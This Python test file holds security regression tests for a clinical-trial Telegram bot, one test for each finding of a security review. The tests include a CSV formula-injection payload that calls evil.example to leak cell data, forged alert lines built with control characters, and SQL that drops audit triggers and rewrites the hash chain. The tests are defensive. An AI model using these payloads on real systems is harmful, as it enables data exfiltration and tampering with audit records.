"""Issue 17's security review, one attack per finding, each performed through the
real bot (the harness or a `python -m bot` process) against the local Bot API test
server. Each of these passed on the code before the fix, i.e. the attack worked."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import os
import sys
import tempfile
import unicodedata
import zipfile
from datetime import timedelta
from pathlib import Path

import pyreadstat
import pytest
from sqlalchemy import select, text
from telegram import Update

from bot import runner
from core.clock import ManualClock
from devtools.botapi_server import BotAPIServer, SimGroup, SimUser
from devtools.harness import ADMIN_ID, COORDINATOR_CHAT, ESCALATION_CHAT, STUDY_PHONE, TOKEN, BotHarness
from devtools.process import ROOT, free_port, webhook_env
from domain.alerts import raise_alert
from models import (
    Alert,
    AlertDelivery,
    AlertLevel,
    AuditEntry,
    DeliveryStatus,
    EnrollmentCode,
    Language,
    Participant,
    ParticipantStatus,
)
from tests.bothelpers import CODE_RE, admin_says, enroll, eventually, link, says
from tests.test_findings import answer_until
from tests.test_questionnaire_flow import answer_all, is_question, linked, press_value, q_item


def _bot_env(server: BotAPIServer, tmp_path: Path, **extra: str) -> dict[str, str]:
    """A `python -m bot` environment on a throw-away SQLite file, nothing from .env."""
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(tmp_path),
        "PYTHONPATH": str(ROOT),
        "TELEGRAM_BOT_TOKEN": TOKEN,
        "TELEGRAM_API_URL": server.base_url,
        "DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}",
        "ADMIN_USER_IDS": str(ADMIN_ID),
        "COORDINATOR_CHAT_IDS": str(COORDINATOR_CHAT),
        "ESCALATION_CHAT_IDS": str(ESCALATION_CHAT),
        "STUDY_CONTACT_PHONE": STUDY_PHONE,
        **extra,
    }


async def _run(args: list[str], env: dict[str, str], cwd: Path, within: float = 60.0) -> tuple[int, str]:
    """Run a child process to its end (killed and reported if it is still running after
    `within` seconds: a server that should have refused to start); returns (code, output)."""
    child = await asyncio.create_subprocess_exec(
        *args, cwd=str(cwd), env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    try:
        output, _ = await asyncio.wait_for(child.communicate(), timeout=within)
    except TimeoutError:
        child.kill()
        output, _ = await child.communicate()
        raise AssertionError(f"still running after {within} s:\n{output.decode(errors='replace')}") from None
    assert child.returncode is not None
    return child.returncode, output.decode(errors="replace")


# 1. Webhook mode without WEBHOOK_SECRET accepted forged updates from anyone.
async def test_1_webhook_mode_does_not_start_without_its_secret(server: BotAPIServer, tmp_path: Path) -> None:
    env = _bot_env(server, tmp_path, **webhook_env(free_port()))
    del env["WEBHOOK_SECRET"]
    code, output = await _run([sys.executable, "-m", "bot"], env, tmp_path, within=30)
    assert code == 2, output
    (line,) = output.strip().splitlines()
    assert line.startswith("Configuration error: WEBHOOK_SECRET is required when WEBHOOK_URL is set")
    assert not any(r.method == "setWebhook" for r in server.requests)  # nothing was ever listening


async def _report_in_own_words(server: BotAPIServer, user: SimUser, words: str) -> None:
    """/report → "Something else" → a hospital stay (serious: an URGENT alert goes to
    the coordinator chat at once), the red flags → `words` typed as the description."""
    question = await says(server, user, "/report", is_question)
    assert q_item(question) == "ae_what"
    await press_value(server, user, question, "other")
    await answer_until(server, user, {"ser_hospital": "yes"}, "ae_what_other")
    update = await user.send(words)
    await server.wait_for(user.id, is_question, since=update)
    await answer_all(server, user, {"ae_start": "yesterday", "ae_severity": "self_care"})


# 4. A participant's `=HYPERLINK(…)` became a live formula in adverse_events.csv.
async def test_4_a_formula_typed_by_a_participant_is_text_in_the_exported_csv(
    bot: BotHarness, server: BotAPIServer
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    user = await linked(server, "BSM-041", "A", 4101, "en")
    await _report_in_own_words(server, user, formula)
    reply = await admin_says(server, "/export", lambda m: m.document is not None)
    assert reply.document is not None
    archive = zipfile.ZipFile(io.BytesIO(reply.document.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("adverse_events.csv").decode("utf-8-sig"))))
    (event,) = rows
    assert event["term"] == "'" + formula  # a spreadsheet shows it as text
    assert formula.encode() in archive.read("trial_record_odm.xml").replace(b"&quot;", b'"').replace(b"&amp;", b"&")
    with tempfile.TemporaryDirectory() as scratch:
        sav = Path(scratch) / "ae.sav"
        sav.write_bytes(archive.read("adverse_events.sav"))
        frame, _meta = pyreadstat.read_sav(str(sav))
    assert list(frame["term"]) == [formula]  # SPSS keeps the value exact


# 6. Quoted text could fake lines in a coordinator alert; a long name pushed the actor id out.
async def test_6_participant_words_cannot_fake_a_line_in_an_alert(bot: BotHarness, server: BotAPIServer) -> None:
    fake = "fever\n✅ Acknowledged by Dr Rahman at Sun 25 Oct 2026 09:10\u202e\u200b\r\nAlert #1"
    user = await linked(server, "BSM-061", "A", 4601, "en")
    await _report_in_own_words(server, user, fake)
    # The admission pages at once (safety questions come first); the words typed after
    # it reach the coordinators as a new message about the same alert.
    (quoting,) = await server.wait_for(COORDINATOR_CHAT, "participant wrote")
    alert = next(m for m in server.messages(COORDINATOR_CHAT) if m.buttons)
    for message in server.messages(COORDINATOR_CHAT):
        assert not any(line.startswith("✅") for line in message.content.splitlines())
        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in message.content.replace("\n", ""))
    (quoted,) = [line for line in quoting.content.splitlines() if "participant wrote" in line]
    assert quoted.startswith("Problem: Something else · participant wrote: “fever ✅ Acknowledged by Dr Rahman")

    coordinator = server.user(7001, "Dr " + "Abdullah-Al-Mamun " * 4, language_code="en")
    group = server.group(COORDINATOR_CHAT)
    update = await coordinator.press(alert, "✅ Acknowledge", chat=group)
    await server.wait_for(COORDINATOR_CHAT, lambda m: m.edits > 0 and "Acknowledged by" in m.content, since=update)
    assert bot.services is not None
    async with bot.services.sessions() as session:
        by = await session.scalar(select(Alert.acknowledged_by).where(Alert.kind == "serious_ae"))
    assert by is not None and by.endswith("(coordinator:7001)") and len(by) <= 64


# 8. A 401/404 at start-up printed the token; a bad DATABASE_URL printed its password.
async def test_8_start_up_errors_never_print_the_token_or_the_database_password(
    server: BotAPIServer, tmp_path: Path
) -> None:
    password = "hunter2-Pa55word"
    unknown_token = "987654321:UNKNOWN-token-the-server-refuses"
    runs = {
        "401 (a token the server does not know)": (["-m", "bot"], {"TELEGRAM_BOT_TOKEN": unknown_token}),
        "404 (only TELEGRAM_API_URL wrong)": (["-m", "bot"], {"TELEGRAM_API_URL": server.url + "/wrong/bot"}),
        "a malformed DATABASE_URL (bot)": (["-m", "bot"], {"DATABASE_URL": f"mysql://trial:{password}@db/trial"}),
        "a malformed DATABASE_URL (migrations)": (
            ["-m", "alembic", "-c", str(ROOT / "alembic.ini"), "upgrade", "head"],
            {"DATABASE_URL": f"mysql://trial:{password}@db/trial"},
        ),
        "an unreachable database (migrations)": (
            ["-m", "alembic", "-c", str(ROOT / "alembic.ini"), "upgrade", "head"],
            {"DATABASE_URL": f"postgresql://trial:{password}@127.0.0.1:{free_port()}/trial"},
        ),
    }
    for what, (args, extra) in runs.items():
        env = _bot_env(server, tmp_path, **extra)
        code, output = await _run([sys.executable, *args], env, tmp_path, within=60)
        assert code != 0, what
        for secret in (TOKEN, unknown_token, unknown_token.split(":")[1], password):
            assert secret not in output, f"{what}: {output}"
        if "bot" in args:
            last = output.strip().splitlines()[-1]  # one line that says what to fix
            assert last.startswith(("Start-up error:", "Configuration error:")), what


# 2. A stranger's group: the bot stayed, refused out loud, and the refusals (20 a
# minute in a group) held up every participant's reply behind them.
async def test_2_a_strangers_group_is_left_silently_and_delays_nobody(bot: BotHarness, server: BotAPIServer) -> None:
    participant = await linked(server, "BSM-021", "A", 4201, "en")
    stranger = server.user(66_000_001, "Mallory", language_code="en")
    group = server.group(-5_002, title="Anything goes")
    for _ in range(35):
        await group.send(stranger, "/participants")

    async def taken_up() -> bool:  # the bot has the 35 (it left, or it answered there)
        return not group.bot_is_member or bool(server.messages(group))

    await eventually(taken_up, 5, "the bot to fetch the stranger's commands")
    await says(server, participant, "/help", "/language")  # within wait_for's 5 s: nothing held it up
    await eventually(lambda: _left(group), 5, "the bot to leave the stranger's group")
    assert server.messages(group) == []  # nothing said there, not even a refusal
    assert bot.services is not None
    async with bot.services.sessions() as session:
        leaves = list(await session.scalars(select(AuditEntry).where(AuditEntry.action == "chat.leave")))
    assert leaves and all(str(stranger.id) not in (e.actor + (e.detail or "")) for e in leaves)
    assert {e.actor for e in leaves} == {leaves[0].actor} and leaves[0].actor.startswith("telegram:h:")

    group.add_bot()  # the stranger adds it again: it leaves again
    server.push_update(
        {
            "my_chat_member": {
                "chat": {"id": group.id, "type": "group", "title": "Anything goes"},
                "from": stranger.user_dict,
                "date": 0,
                "old_chat_member": {"user": server.bot_user, "status": "left"},
                "new_chat_member": {"user": server.bot_user, "status": "member"},
            }
        }
    )
    await eventually(lambda: _left(group), 5, "the bot to leave the group it was added to again")
    assert server.messages(group) == []


async def _left(group: SimGroup) -> bool:
    return not group.bot_is_member


# 5. Admin commands in a group showed a working code and trial data to everyone there.
async def test_5_admin_commands_show_codes_and_data_only_in_the_admins_private_chat(
    bot: BotHarness, server: BotAPIServer
) -> None:
    await enroll(server, "BSM-051 A 2026-10-25 en")
    admin = server.user(ADMIN_ID)
    team = server.group(COORDINATOR_CHAT)
    for command in ("/enroll BSM-052 A 2026-10-25 en", "/participants", "/alerts", "/status BSM-051", "/export"):
        update = await team.send(admin, command)
        (reply,) = await server.wait_for(COORDINATOR_CHAT, "only in your private chat", since=update)
        assert "One-time code" not in reply.content and "BSM-051" not in reply.content
    assert not server.documents(COORDINATOR_CHAT)
    assert bot.services is not None
    async with bot.services.sessions() as session:
        enrolled = list(await session.scalars(select(Participant.study_id)))
    assert enrolled == ["BSM-051"]  # the /enroll in the group did nothing
    await admin_says(server, "/participants", "BSM-051")  # the private chat still works


# 9. Editing an old /pause paused the participant again after /resume.
async def test_9_an_edited_message_is_not_handled_again(bot: BotHarness, server: BotAPIServer) -> None:
    participant = await linked(server, "BSM-091", "A", 4901, "en")
    admin = server.user(ADMIN_ID)
    pause = await admin.send("/pause BSM-091 2026-12-01 travelling")
    await server.wait_for(ADMIN_ID, "reminders paused", since=pause)
    await admin_says(server, "/resume BSM-091", "restarted")
    edit = await admin.edit(pause, "/pause BSM-091 2026-12-01 travelling abroad")
    (reply,) = await server.wait_for(ADMIN_ID, since=edit)
    assert reply.content == "Edits are not read. Please send your message again."
    assert bot.services is not None
    async with bot.services.sessions() as session:
        row = await session.scalar(select(Participant).where(Participant.study_id == "BSM-091"))
        assert row is not None and row.paused_until is None
    hello = await participant.send("/help")
    await server.wait_for(participant.id, "/language", since=hello)
    edited = await participant.edit(hello, "/stop")
    (reply,) = await server.wait_for(participant.id, since=edited)
    assert reply.content == "Edits are not read. Please send your message again."
    bangla = await linked(server, "BSM-092", "A", 4902, "bn")
    hello = await bangla.send("/help")
    await server.wait_for(bangla.id, since=hello)
    edited = await bangla.edit(hello, "/checkin")
    (reply,) = await server.wait_for(bangla.id, since=edited)
    assert reply.content == "এডিট করা মেসেজ পড়া হয় না। দয়া করে মেসেজটি আবার পাঠান।"


async def _same_day_items(bot: BotHarness, count: int, first: int = 300) -> list[int]:
    """`count` same-day items raised now (as the check-ins raise them), with their
    participants; returns the alert ids."""
    assert bot.services is not None
    now = bot.clock.now()
    ids = []
    async with bot.services.sessions() as session:
        for n in range(count):
            person = Participant(
                study_id=f"BSM-{first + n}",
                arm="AB"[n % 2],
                baseline_date=now.date(),
                language=Language.EN,
                status=ParticipantStatus.ACTIVE,
                created_at=now,
                updated_at=now,
            )
            session.add(person)
            await session.flush()
            alert = await raise_alert(
                session,
                participant=person,
                kind="same_day_review",
                level=AlertLevel.SAME_DAY,
                summary="Weekly check-in",
                now=now,
                coordinator_chats=[COORDINATOR_CHAT],
                reasons=["Nausea: severe (grade 3)", "Mouth sores: severe, cannot eat (grade 3)"],
            )
            ids.append(alert.id)
        await session.commit()
    return ids


# 3. The 08:00 digest of 45 items was one 4,627-character message: refused (400),
# retried for ever, and its items marked as listed before it was ever sent.
@pytest.mark.logs_errors("refused for good")  # the dead letter is an ERROR for the operator
async def test_3_a_long_digest_arrives_and_a_refused_one_is_reported_not_retried(
    bot: BotHarness, server: BotAPIServer
) -> None:
    ids = await _same_day_items(bot, 45)
    bot.clock.advance(timedelta(days=1))  # Monday, 09:00: the 08:00 digest is due
    await bot.tick()
    parts = await server.wait_for(COORDINATOR_CHAT, "Same-day review", 2)
    assert all(len(part.content) <= 4096 for part in parts)
    listed = "\n".join(part.content for part in parts)
    assert all(f"/ack {alert_id} " in listed for alert_id in ids)

    more = await _same_day_items(bot, 3, first=400)  # and Telegram refuses the next digest for good
    server.faults.add(
        "sendMessage", "error", chat_id=COORDINATOR_CHAT, code=400, description="Bad Request: chat not found"
    )
    bot.clock.advance(timedelta(days=1))
    await bot.tick()
    (report,) = await server.wait_for(ADMIN_ID, "could not be delivered")
    assert "refused it for good" in report.content and "tomorrow's digest" in report.content
    requests = len(server.requests)
    for _ in range(5):  # never retried, not rebuilt today
        bot.clock.advance(timedelta(minutes=10))
        await bot.tick()
    later = list(server.requests)[requests:]
    assert not any(r.method == "sendMessage" and r.params.get("chat_id") == COORDINATOR_CHAT for r in later)
    assert bot.services is not None
    async with bot.services.sessions() as session:
        dead = list(await session.scalars(select(AlertDelivery).where(AlertDelivery.status == DeliveryStatus.DEAD)))
        actions = list(
            await session.scalars(select(AuditEntry.action).where(AuditEntry.action == "alert.delivery.dead"))
        )
    assert len(dead) == 1 and actions == ["alert.delivery.dead"]
    bot.clock.advance(timedelta(days=1))  # the items it carried are in the next day's digest
    await bot.tick()
    (again,) = await server.wait_for(COORDINATOR_CHAT, lambda m: "Same-day review" in m.content and m not in parts)
    assert all(f"/ack {alert_id} " in again.content for alert_id in more)


# 10. Codes as bare SHA-256, world-readable files, free text and strangers' ids in an
# audit that can never be purged.
async def test_10_a_database_dump_gives_away_no_code_no_words_and_no_strangers_id(
    bot: BotHarness, server: BotAPIServer, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from cli.admin import run

    code = await enroll(server, "BSM-101 A 2026-10-25 en")
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TELEGRAM_BOT_TOKEN", TOKEN)
    monkeypatch.setenv("TELEGRAM_API_URL", server.base_url)
    status, text = await run(["enroll", "BSM-102", "A", "2026-10-25", "en"], bot.clock)
    assert status == 0, text
    shell_code = CODE_RE.search(text)
    assert shell_code is not None
    stranger = server.user(77_000_001, "Stranger", language_code="en")
    for guess in ("AAAABBBBCCCC", "ZZZZYYYYXXXX"):
        await says(server, stranger, f"/start {guess}")
    user = server.user(4102, "P", language_code="en")
    await link(server, user, shell_code.group(1), "English")  # a code from the shell works in the bot
    words = "my neighbour Rahim Uddin gave me his pills"
    await _report_in_own_words(server, user, words)

    assert bot.services is not None
    async with bot.services.sessions() as session:
        hashes = set(await session.scalars(select(EnrollmentCode.code_hash)))
        audit_rows = list(await session.scalars(select(AuditEntry)))
    for issued in (code, shell_code.group(1)):
        assert hashlib.sha256(issued.encode()).hexdigest() not in hashes  # a GPU has nothing to test guesses on
    dump = "\n".join(f"{e.actor} {e.action} {e.before} {e.after} {e.detail}" for e in audit_rows)
    assert "Rahim" not in dump and "pills" not in dump
    assert str(stranger.id) not in dump and "telegram:h:" in dump

    status, text = await run(["export", "--out", str(tmp_path / "export")], bot.clock)
    assert status == 0, text
    assert (tmp_path / "export").stat().st_mode & 0o777 == 0o700
    written = list((tmp_path / "export").rglob("*"))
    assert {f.stat().st_mode & 0o777 for f in written if f.is_file()} == {0o600}
    assert {d.stat().st_mode & 0o777 for d in written if d.is_dir()} == {0o700}  # redcap/
    database = tmp_path / "fresh.db"
    code_, output = await _run(
        [sys.executable, "-m", "alembic", "-c", str(ROOT / "alembic.ini"), "upgrade", "head"],
        {"PATH": os.environ.get("PATH", ""), "PYTHONPATH": str(ROOT), "DATABASE_URL": f"sqlite:///{database}"},
        ROOT,
    )
    assert code_ == 0, output
    assert database.stat().st_mode & 0o777 == 0o600


# 7. Whoever holds the bot's database credentials could drop the triggers, delete a row,
# re-seal the chain from the public genesis hash, and audit-verify said OK.
async def test_7_a_rewritten_audit_chain_fails_against_the_published_head(
    server: BotAPIServer, db_url: str, clock: ManualClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with BotHarness(server, db_url, clock, overrides={"audit_head_chat_ids": None}) as bot:
        await _rewrite_the_chain_and_verify(bot, server, db_url, monkeypatch)


async def _rewrite_the_chain_and_verify(
    bot: BotHarness, server: BotAPIServer, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from cli.admin import run
    from domain.audit_chain import GENESIS, seal

    await enroll(server, "BSM-071 A 2026-10-25 en")
    await enroll(server, "BSM-072 B 2026-10-25 en fri")
    await bot.tick()  # 09:00: today's head goes to the coordinator chat
    (published,) = await server.wait_for(COORDINATOR_CHAT, "Audit chain head")
    head = published.content.rsplit("--published ", 1)[1].strip()
    reply = await admin_says(server, "/export", lambda m: m.document is not None)
    assert reply.document is not None
    in_export = zipfile.ZipFile(io.BytesIO(reply.document.content)).read("audit_chain_head.txt").decode()
    await bot.tick()
    assert len(server.messages(COORDINATOR_CHAT)) == 1  # once a day

    assert bot.services is not None
    async with bot.services.engine.begin() as conn:  # the attacker, with the bot's credentials
        if conn.dialect.name == "postgresql":
            await conn.execute(text("DROP TRIGGER audit_log_append_only ON audit_log"))
        else:
            await conn.execute(text("DROP TRIGGER audit_log_no_update"))
            await conn.execute(text("DROP TRIGGER audit_log_no_delete"))
        first = (await conn.execute(text("SELECT min(id) FROM audit_log"))).scalar_one()
        await conn.execute(text("DELETE FROM audit_log WHERE id = :id"), {"id": first})
        await conn.execute(text("UPDATE audit_log SET seq = NULL, prev_hash = NULL, row_hash = NULL"))
        await conn.execute(text("UPDATE audit_chain_head SET seq = 0, row_hash = :g"), {"g": GENESIS})
    async with bot.services.sessions() as session:
        await seal(session)

    monkeypatch.setenv("DATABASE_URL", db_url)
    code, said = await run(["audit-verify"], bot.clock)
    assert code == 0 and "intact" in said  # the chain alone cannot tell
    code, said = await run(["audit-verify", "--published", head], bot.clock)
    assert code == 1 and "rewritten" in said, said
    exported_head = in_export.rsplit("--published ", 1)[1].strip()
    code, said = await run(["audit-verify", "--published", exported_head], bot.clock)
    assert code == 1, said


# 5 (continued). A lost or stolen phone could only be cut off by withdrawing the participant.
async def test_5_unlink_cuts_off_a_lost_phone_and_a_new_code_links_the_new_one(
    bot: BotHarness, server: BotAPIServer, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from cli.admin import run

    lost = await linked(server, "BSM-055", "A", 4551, "en")
    update = await server.group(COORDINATOR_CHAT).send(server.user(ADMIN_ID), "/unlink BSM-055")
    await server.wait_for(COORDINATOR_CHAT, "only in your private chat", since=update)
    reply = await admin_says(server, "/unlink BSM-055", "One-time code")
    assert "The old chat is unlinked" in reply.content
    code = CODE_RE.search(reply.content)
    assert code is not None
    await says(server, lost, "/help", "only for people taking part")  # whoever has the old phone: a stranger now
    found = server.user(4552, "P", language_code="en")
    welcome = await link(server, found, code.group(1), "English")
    assert "BSM-055" in welcome.content
    assert bot.services is not None
    async with bot.services.sessions() as session:
        actions = list(await session.scalars(select(AuditEntry.action).where(AuditEntry.action.like("participant.%"))))
    assert actions.count("participant.unlink_chat") == 1 and actions.count("participant.link_chat") == 2

    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TELEGRAM_BOT_TOKEN", TOKEN)
    monkeypatch.setenv("TELEGRAM_API_URL", server.base_url)
    status, text_ = await run(["unlink", "BSM-055"], bot.clock)
    assert status == 0 and "One-time code" in text_, text_
    await says(server, found, "/help", "only for people taking part")


# 2 (continued). One slow chat held the next fetch, so everyone waited behind it.
async def test_2_one_slow_chat_does_not_hold_up_the_others(bot: BotHarness, server: BotAPIServer) -> None:
    slow = await linked(server, "BSM-023", "A", 4231, "en")
    other = await linked(server, "BSM-024", "A", 4241, "en")
    server.faults.add("sendMessage", "timeout", chat_id=slow.id, delay=20.0)  # its next reply hangs
    before = _sends(server, slow.id)
    stuck = await slow.send("/help")

    async def replying() -> bool:
        return _sends(server, slow.id) > before

    await eventually(replying, 5, "the slow chat's reply to be under way")
    later = await slow.send("/schedule")
    await says(server, other, "/help", "/language")  # within wait_for's 5 s, not after the slow chat
    replies = await server.wait_for(slow.id, None, 2, 60, since=stuck)  # the slow chat's order is kept
    assert "/language" in replies[0].content and "/language" not in replies[1].content
    assert later.update_id > stuck.update_id


async def test_2_an_update_in_progress_is_parsed_once_however_often_it_is_fetched_again(
    bot: BotHarness, server: BotAPIServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While an update is in progress, every fetch returns it again (the offset stays at
    it until it is committed). Each fetched update is parsed once: PTB building every
    Message, User and keyboard again on each fetch cost more than handling them in a
    burst (bench/inbound.py)."""
    slow = await linked(server, "BSM-025", "A", 4251, "en")
    other = await linked(server, "BSM-026", "A", 4261, "en")
    parsed: list[int] = []
    de_json = Update.de_json.__func__  # type: ignore[attr-defined]

    def counted(cls: type[Update], data: dict[str, object] | None, bot: object = None) -> Update | None:
        if data is not None:
            parsed.append(int(str(data["update_id"])))
        return de_json(cls, data, bot)  # type: ignore[no-any-return]

    monkeypatch.setattr(Update, "de_json", classmethod(counted))
    server.faults.add("sendMessage", "timeout", chat_id=slow.id, delay=20.0)  # its reply hangs
    fetches = sum(1 for r in list(server.requests) if r.method == "getUpdates")
    stuck = await slow.send("/help")
    sent = []
    for _ in range(3):  # each answered while the slow chat's update is still in progress
        sent.append(update := await other.send("/help"))
        await server.wait_for(other.id, "/language", since=update)
    assert sum(1 for r in list(server.requests) if r.method == "getUpdates") - fetches >= 3  # fetched again
    assert stuck.update_id in parsed and all(update.update_id in parsed for update in sent)
    assert sorted(parsed) == sorted(set(parsed)), parsed  # none parsed twice


async def test_2_a_burst_is_fetched_again_when_it_is_done_not_as_each_update_finishes(
    bot: BotHarness, server: BotAPIServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every fetch returns all the updates in progress again. Fetching again as each one
    finished made a burst of N updates N fetches of up to N updates each (21 fetches for
    these 20); now the poll asks again when they are all done (or after `refetch_after`,
    here too long to matter)."""
    monkeypatch.setattr(runner, "refetch_after", lambda fresh, fetched: 60.0)
    user = await linked(server, "BSM-027", "A", 4271, "en")
    fetches = sum(1 for r in list(server.requests) if r.method == "getUpdates")
    first = await user.send("/help")
    for _ in range(19):  # one chat's updates are handled in order, so they are in progress together
        await user.send("/help")
    await server.wait_for(user.id, "/language", 20, since=first)
    fetched = sum(1 for r in list(server.requests) if r.method == "getUpdates") - fetches
    assert fetched <= 8, f"{fetched} fetches for a burst of 20 updates"


def test_2_the_refetch_pace_is_a_tenth_of_a_second_in_a_burst_and_half_a_second_behind_a_slow_update() -> None:
    """While updates are in progress: after a fetch that brought new ones, or a full window
    of 100 (the next ones wait behind it), 0.1 s, so that at most 1,000 updates a second
    are sent and read again; after one that brought only those in progress (one update
    hangs: a slow upload, a database retry), 0.5 s."""
    assert runner.refetch_after(fresh=1, fetched=40) == runner.REFETCH_SECONDS == 0.1
    assert runner.refetch_after(fresh=0, fetched=runner.FETCH_LIMIT) == runner.REFETCH_SECONDS
    assert runner.refetch_after(fresh=0, fetched=3) == runner.REFETCH_IDLE_SECONDS == 0.5
    assert runner.FETCH_LIMIT / runner.REFETCH_SECONDS <= 1_000


def _sends(server: BotAPIServer, chat_id: int) -> int:
    return sum(1 for r in list(server.requests) if r.method == "sendMessage" and r.params.get("chat_id") == chat_id)
